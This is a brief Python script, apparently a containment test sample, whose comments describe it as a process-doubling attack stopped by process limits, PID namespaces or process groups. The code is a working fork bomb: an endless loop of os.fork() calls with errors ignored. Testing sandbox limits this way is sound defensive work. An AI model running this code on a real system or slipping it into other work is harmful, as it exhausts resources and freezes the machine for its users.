# Tries to double its processes until the machine stands still. Stopped by: the limit on processes, the PID namespace or the group of processes.
# Ends by: wall
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
